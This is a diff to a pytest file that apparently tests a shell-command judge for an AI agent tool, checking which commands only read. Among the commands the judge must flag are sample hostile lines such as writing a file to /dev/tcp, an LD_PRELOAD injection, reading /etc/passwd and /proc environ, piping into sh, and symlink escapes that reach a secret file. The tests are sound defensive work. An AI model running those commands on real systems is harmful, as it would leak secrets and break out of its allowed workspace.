@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 import re
 from pathlib import Path
 
@@ -9,9 +10,9 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from glossator.tools.shell.judge import Place, is_read_only
+from glossator.tools.shell.judge import Place, is_read_only, only_reading
 from glossator.tools.shell.programs import FIND, GIT, PROGRAMS
-from glossator.tools.shell.syntax import parse
+from glossator.tools.shell.syntax import Script, parse
 
 
 @pytest.fixture
@@ -24,6 +25,12 @@ def place(tmp_path: Path) -> Place:
     (root / "out").symlink_to(tmp_path / "secret")
     (root / "up").symlink_to(tmp_path)
     (root / "inside").symlink_to("a.py")
+    (root / "src" / "bin" / "x" / "y").mkdir(parents=True)
+    (root / "deep").symlink_to("src/bin/x")
+    (root / "odd").mkdir()
+    for name in ("-rf", "a b", "c"):
+        (root / "odd" / name).touch()
+    os.mkfifo(root / "pipe")
     (tmp_path / "ws-evil").mkdir()
     program = root / "src" / "bin" / "wc"
     program.write_text("#!/bin/sh\n")
@@ -94,6 +101,27 @@ READS = [
     "sha256sum a.py",
     "basename src/b.py",
     "true",
+    # variables, patterns, groups, loops, tests, here-documents
+    "NO_COLOR=1 LC_ALL=C.UTF-8 TZ= ls",
+    "ls *.py src/* # all of them",
+    "cat a.*",
+    "grep -rn --include=*.py x .",
+    "find . -name *.txt",
+    "echo *",
+    "ls odd/-*",
+    "(cd src && ls); { pwd; }; ! ls",
+    "for f in a.py src/b.py; do wc -l $f; done",
+    'for f in *.py; do head -3 "$f"; done',
+    "if [ -f a.py ]; then cat a.py; else ls; fi",
+    "while true; do ls; done",
+    "cat <<E\nx\nE",
+    "sort <<<'b a'",
+    "ls; echo $?",
+    "uniq -f 1 a.py",  # the value is the next word
+    "cd src/bin/.. && ls",
+    "git log --pretty=format:%h",
+    "git log --pretty=oneline --format=fuller",
+    "git tag -l --sort=-version:refname",
 ]
 
 
@@ -241,7 +269,75 @@ MAY_DO_MORE = [
     "ls >> f",
     "ls >| f",
     "ls 2> f",
+    "(ls) > f",
+    "cat <<E > f\nx\nE",
+    # what is set for a program
+    "PATH=. ls",
+    "LD_PRELOAD=./x.so ls",
+    "LC_ALL=../x ls",
+    "TZ=:/etc/passwd date",
+    "A=1 ls",
+    "NO_COLOR=1 PATH=. ls",
+    "CDPATH=/ cd etc",
+    # what patterns may fit: options, links that lead outside, several files where one is meant
+    "ls odd/*",
+    "cat out*",
+    "cat *",
+    "ls up/*",
+    "echo up/*",
+    "which up/*",
+    "for f in up/*; do true $f; done",
+    "for f in *; do true; done",
+    "for f in odd/*; do cat $f; done",
+    "ls .*",
+    "ls */*",
+    "cd src*",
+    "cd *b",
+    "uniq *.py",
+    "sed -n *.py",
+    "jq *.py",
+    "tail -n *.py a.py",
+    "ls a[b",
+    # in a loop, or a branch
+    "for f in a.py /etc/passwd; do cat $f; done",
+    "for f in a.py b; do rm $f; done",
+    "if true; then rm a.py; fi",
+    "[ -f /etc/passwd ]",
+    "[ -f a.py ] && rm a.py",
+    "while cd ..; do ls; done",
+    "for f in *.py; do cd ..; cat $f; done",
+    "sh <<E\nls\nE",
+    "echo ls | sh",
     "cat a.py > /dev/tcp/x/1",
+    # a shell opens connections, and what is a device or a pipe waits or acts
+    "cat </dev/tcp/127.0.0.1/80",
+    "cat </dev/udp/127.0.0.1/53",
+    "cat </dev/stdin",
+    "cat </dev/zero",
+    "cat 3</dev/tcp/127.0.0.1/80",
+    "cat <../nowhere",
+    "cat </nowhere/x",
+    "cat <pipe",
+    "cat pipe",
+    "cat /dev/zero",
+    "cat /proc/1/environ",
+    "cat /proc/999999/environ",
+    "wc -l <out",
+    # a diff of folders follows the links in them
+    "diff src src/bin",
+    "diff -N src a.py",
+    "diff a.py src",
+    "diff . src",
+    # by name a shell goes up from where the link is
+    "cd deep/../.. && cat secret",
+    "cd deep/.. && cd .. && cat secret",
+    "cd deep && cd .. && cd .. && cat secret",
+    # git that runs what is configured for signatures
+    "git branch --sort=signature",
+    "git tag -l --sort=-signature:grade",
+    "git tag -l --format='%(*signature:grade)'",
+    "git log --pretty=mine",
+    "git log --format=mine",
     # outside the workspace
     "cat /etc/passwd",
     "cat ../secret",
@@ -290,6 +386,32 @@ def test_a_program_of_the_workspace_is_not_what_it_is_called(place: Place) -> No
     assert check("wc a.py", place)
     assert not check("wc a.py", planted)
     assert check("echo a", planted)
+
+
+def test_nor_is_a_link_to_one_of_the_workspace(place: Place, tmp_path: Path) -> None:
+    elsewhere = tmp_path / "bin"
+    elsewhere.mkdir()
+    (elsewhere / "cat").symlink_to(f"{place.cwd}/src/bin/wc")
+    planted = Place(place.cwd, place.roots, f"{elsewhere}:/usr/bin:/bin")
+    assert check("wc a.py", planted)
+    assert not check("cat a.py", planted)
+
+
+def test_what_is_read_is_no_program_for_another(place: Place) -> None:
+    """Each part that only reads is known, but for those whose output another one may obey."""
+    for line, reading in (
+        ("echo a; npm test; echo b", ["echo a", "echo b"]),
+        ("npm test | tail -5 | cut -c1", ["tail -5", "cut -c1"]),
+        ("echo a | sh", []),
+        ("echo a | head -1 | sh | wc -l", ["wc -l"]),
+        ("(echo a; echo b) | (true; sh); echo c", ["echo c"]),
+        ("echo a; cd nowhere; sh; echo a", ["echo a", "cd nowhere"]),
+        ("echo a | sh; echo a", ["echo a"]),
+    ):
+        script = parse(line)
+        assert isinstance(script, Script)
+        found = only_reading(script.commands, place)
+        assert [each.text for each in dict.fromkeys(script.commands) if each in found] == reading
 
 
 def test_a_folder_outside_is_no_place_to_read(place: Place) -> None:
